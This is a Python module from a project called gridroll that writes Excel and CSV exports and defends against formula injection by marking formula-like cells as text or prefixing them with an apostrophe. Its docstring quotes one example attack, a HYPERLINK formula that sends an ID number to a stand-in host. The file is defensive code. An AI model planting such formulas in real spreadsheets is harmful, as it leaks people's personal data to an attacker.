"""Every Excel and CSV file gridroll writes goes through here, so that user text stays text.

A resident's name is typed by anyone (self-registration, a list sent from above). A cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's CSV-injection rule; ``lib.text``) would
be a live formula in Excel — ``=HYPERLINK("http://x.example/?"&L2,"点击核对")`` sends the ID number in
L2 to whoever wrote it. So:

- in .xlsx every such cell is an explicit text cell with Excel's "quote prefix" set: shown and read back
  exactly as typed, never evaluated, not even after the cell is edited;
- in .csv, which has no types, such a cell is prefixed with ``'`` (what Excel itself shows for text that
  would otherwise be a formula).

All other cells are written as they are: export → import stays a no-op.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from gridroll.lib.text import starts_like_formula

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet evaluates."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def write_xlsx(
    rows: Iterable[Iterable[Any]], out: IO[bytes], title: str = "Sheet", header: list[str] | None = None
) -> int:
    """Stream rows into a write-only workbook (100,000 rows in ~8 s, constant memory). Returns row count."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)

    def safe(row: Iterable[Any]) -> list[Any]:
        cells: list[Any] = []
        for value in row:
            if isinstance(value, str) and starts_like_formula(value):
                cell = WriteOnlyCell(sheet, value=value)
                cell.data_type = "s"  # openpyxl made "=…" a formula
                cell.quotePrefix = True  # and Excel keeps it text when someone edits it
                cells.append(cell)
            else:
                cells.append(value)
        return cells

    if header is not None:
        sheet.append(safe(header))
    count = 0
    for row in rows:
        sheet.append(safe(row))
        count += 1
    book.save(out)
    return count


def write_csv(rows: Iterable[Iterable[Any]], out: IO[Any], header: list[str] | None = None) -> int:
    """UTF-8 with a BOM (Excel on Windows opens it with the Chinese intact). Returns the row count."""
    text = (
        io.TextIOWrapper(out, encoding="utf-8-sig", newline="") if not isinstance(out, io.TextIOBase) else out
    )
    writer = csv.writer(text)
    if header is not None:
        writer.writerow([csv_cell(v) for v in header])
    count = 0
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        count += 1
    text.flush()
    if isinstance(text, io.TextIOWrapper):
        text.detach()
    return count
